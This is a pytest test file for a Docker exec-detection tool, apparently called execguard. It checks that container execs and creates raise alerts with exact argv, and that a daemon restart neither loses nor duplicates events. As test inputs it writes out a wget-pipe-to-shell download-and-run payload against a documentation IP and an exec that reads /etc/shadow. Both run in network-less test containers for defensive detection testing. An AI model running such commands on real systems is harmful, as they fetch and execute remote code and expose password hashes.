"""watch --docker on a real daemon: execs and creates alert from the Engine API, with exact argv, and a daemon
restart mid-watch neither loses nor doubles an exec."""

from __future__ import annotations

import signal
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import orjson
import pytest

from execguard.engine.load import load_rules
from execguard.engine.match import Engine
from execguard.live.docker import DockerInput
from execguard.live.inputs import EventStream, supervise
from execguard.live.metrics import Metrics
from execguard.live.runner import Detector, Runner
from execguard.testing.dockerd import IMAGE, Dockerd, DockerdUnavailable, start_dockerd, why_unavailable
from sinks_helpers import Collect

pytestmark = pytest.mark.docker
EXE = Path(sys.executable).parent / "execguard"
WAIT = 30.0  # bound of every wait; alerts normally arrive in milliseconds


class Watch:
    def __init__(self, url: str) -> None:
        self.input = DockerInput(url)
        self.sink = Collect()
        # watch's own runner: the input in a supervised thread, the engine in this test's thread
        self.runner = Runner(Detector(Engine(load_rules([])), None, 0), self.sink, Metrics(), None, lambda m: None)
        self.thread = threading.Thread(target=self._loop, daemon=True)

    def _loop(self) -> None:
        while not self.runner.stop.is_set():
            self.runner.step(0.1)

    def __enter__(self) -> Watch:
        self.inputs = supervise(EventStream(self.input), self.runner.queue, self.runner.stop, lambda m: None)
        self.thread.start()
        assert self.input.connected.wait(WAIT), "the /events stream did not open"
        return self

    def __exit__(self, *exc: object) -> None:
        self.runner.stop.set()
        self.thread.join(timeout=WAIT)
        self.inputs.join(timeout=WAIT)
        assert not self.thread.is_alive() and not self.inputs.is_alive()


@pytest.fixture
def watch(docker_daemon: Dockerd) -> Iterator[Watch]:
    with Watch(docker_daemon.url) as w:
        yield w


def _container(d: Dockerd, **kw: Any) -> Any:
    return d.client().containers.run(IMAGE, ["sleep", "120"], detach=True, network_mode="none", name=f"w-{uuid.uuid4().hex[:8]}", **kw)


def _exec(d: Dockerd, container: Any, cmd: list[str], **kw: Any) -> str:
    api = d.client().api
    exec_id: str = api.exec_create(container.id, cmd, **kw)["Id"]
    api.exec_start(exec_id)
    return exec_id


def test_exec_alerts_with_exact_argv(docker_daemon: Dockerd, watch: Watch) -> None:
    c = _container(docker_daemon)
    try:
        argv = ["sh", "-c", "echo 'two  words' ;  id", "arg with space"]
        exec_id = _exec(docker_daemon, c, argv, user="0", privileged=True)
        alert = watch.sink.wait_for(lambda a: a.event.event_id == exec_id)
        ev = alert.event
        assert ev.command == argv  # the events stream alone would give "sh -c echo 'two words' ..." split on spaces
        assert ev.action == "exec" and ev.source.format == "docker-events" and ev.source.file == docker_daemon.url
        assert ev.privileged is True and ev.run_as_user == "0" and ev.tty is False
        assert ev.target.container_id == c.id
        assert {m.rule_id for m in alert.matches} >= {"docker-exec"}
    finally:
        c.remove(force=True)


def test_malicious_entrypoint_create_alerts(docker_daemon: Dockerd, watch: Watch) -> None:
    api = docker_daemon.client().api
    payload = "wget -q -O - http://203.0.113.7/x.sh | sh"
    name = f"k-{uuid.uuid4().hex[:8]}"
    labels = {"io.kubernetes.pod.namespace": "prod", "io.kubernetes.pod.name": "web-1", "io.kubernetes.container.name": "app"}
    cid = api.create_container(IMAGE, entrypoint=["sh", "-c"], command=[payload], name=name, labels=labels,
                               host_config=api.create_host_config(network_mode="none", binds=["/etc:/host-etc:ro"]))["Id"]  # fmt: skip
    try:
        alert = watch.sink.wait_for(lambda a: a.event.target.container_id == cid and a.event.action == "create")
        ev = alert.event
        assert ev.command == ["sh", "-c", payload]
        assert ev.command_origin == "container" and ev.target.image == IMAGE
        assert (ev.target.namespace, ev.target.pod, ev.target.container) == ("prod", "web-1", "app")
        assert ev.binds == ["/etc:/host-etc:ro"]
        assert alert.severity in ("high", "critical")
    finally:
        api.remove_container(cid, force=True)


def test_exec_gone_still_alerts_from_the_event(docker_daemon: Dockerd) -> None:
    inp = DockerInput(docker_daemon.url)
    gone = "0" * 64  # no such exec on the daemon: /exec/ID/json answers 404
    obj = {
        "Type": "container", "Action": "exec_start: sh -c id", "timeNano": time.time_ns(),
        "Actor": {"ID": "f" * 64, "Attributes": {"execID": gone, "image": IMAGE, "name": "web"}},
    }  # fmt: skip
    [ev] = inp.events(obj)
    assert ev.event_id == gone and ev.command == ["sh", "-c", "id"] and ev.outcome == "allowed"


@pytest.fixture
def own_daemon() -> Iterator[Dockerd]:
    """A daemon of this test's own: restarting the shared one would stop other tests' containers."""
    reason = why_unavailable()
    if reason:
        pytest.skip(reason)
    try:
        d = start_dockerd()
    except DockerdUnavailable as exc:
        pytest.skip(str(exc))
    try:
        yield d
    finally:
        d.stop()


def test_daemon_restart_loses_and_doubles_nothing(own_daemon: Dockerd) -> None:
    with Watch(own_daemon.url) as w:
        c1 = _container(own_daemon)
        before = [_exec(own_daemon, c1, ["sh", "-c", f"echo before {i}"]) for i in range(3)]
        for exec_id in before:
            w.sink.wait_for(lambda a, e=exec_id: a.event.event_id == e)
        own_daemon.restart()
        # at once, while the watcher is still reconnecting: these come through `since`
        c2 = _container(own_daemon)
        after = [_exec(own_daemon, c2, ["sh", "-c", f"echo after {i}"]) for i in range(3)]
        for exec_id in after:
            w.sink.wait_for(lambda a, e=exec_id: a.event.event_id == e)
        assert w.input.reconnects >= 1
        # one more exec, seen after every earlier one: nothing replayed is still on its way
        last = _exec(own_daemon, c2, ["true"])
        w.sink.wait_for(lambda a: a.event.event_id == last)
        ids = [a.event.event_id for a in w.sink.alerts if a.event.action == "exec"]
        for exec_id in [*before, *after, last]:
            assert ids.count(exec_id) == 1, exec_id


def test_watch_command_over_tcp(docker_daemon: Dockerd, tmp_path: Path) -> None:
    assert docker_daemon.tcp_url
    out = tmp_path / "alerts.jsonl"
    cmd = [str(EXE), "watch", "--docker", docker_daemon.tcp_url, "-o", "jsonl", "--out", str(out)]
    proc = subprocess.Popen(cmd, stdin=subprocess.DEVNULL, stderr=subprocess.PIPE)
    c = _container(docker_daemon)
    try:
        deadline = time.monotonic() + WAIT
        ids: list[str] = []
        exec_id = ""
        while time.monotonic() < deadline:
            # the command needs a moment to connect: an exec made before that is not in its `since`
            exec_id = _exec(docker_daemon, c, ["sh", "-c", "cat /etc/shadow"])
            time.sleep(0.5)
            ids = [orjson.loads(raw)["event_id"] for raw in out.read_bytes().splitlines()] if out.exists() else []
            if exec_id in ids:
                break
        assert exec_id in ids
    finally:
        c.remove(force=True)
        proc.send_signal(signal.SIGTERM)
        _, err = proc.communicate(timeout=WAIT)
    assert proc.returncode == 0, err.decode()
    assert len(ids) == len(set(ids))


def test_reconnect_replays_from_since_without_doubling(docker_daemon: Dockerd) -> None:
    """Execs made while the stream is down come from `since`; the event at the boundary is not handed on twice."""
    inp = DockerInput(docker_daemon.url)
    got: list[Any] = []
    c = _container(docker_daemon)
    try:
        for round_ in range(2):
            stop = threading.Event()
            t = threading.Thread(target=inp.run, args=(got.append, stop), daemon=True)
            t.start()
            assert inp.connected.wait(WAIT)
            first = _exec(docker_daemon, c, ["sh", "-c", f"echo live {round_}"])
            deadline = time.monotonic() + WAIT
            while not any(e.event_id == first and e.verb == "exec_start" for e in got) and time.monotonic() < deadline:
                time.sleep(0.02)
            stop.set()
            t.join(WAIT)
            assert not t.is_alive()
            # the stream is closed now: these are only in the daemon's event buffer
            _exec(docker_daemon, c, ["sh", "-c", f"echo missed {round_}"])
        stop = threading.Event()
        t = threading.Thread(target=inp.run, args=(got.append, stop), daemon=True)
        t.start()
        assert inp.connected.wait(WAIT)
        last = _exec(docker_daemon, c, ["true"])
        deadline = time.monotonic() + WAIT
        while not any(e.event_id == last and e.verb == "exec_start" for e in got) and time.monotonic() < deadline:
            time.sleep(0.02)
        stop.set()
        t.join(WAIT)
    finally:
        c.remove(force=True)
    seen = [(e.event_id, e.verb) for e in got if e.action == "exec"]
    assert len(seen) == len(set(seen)) == 10  # 5 execs, each created and started once
    commands = [" ".join(e.command) for e in got if e.verb == "exec_create"]
    assert commands == ["sh -c echo live 0", "sh -c echo missed 0", "sh -c echo live 1", "sh -c echo missed 1", "true"]
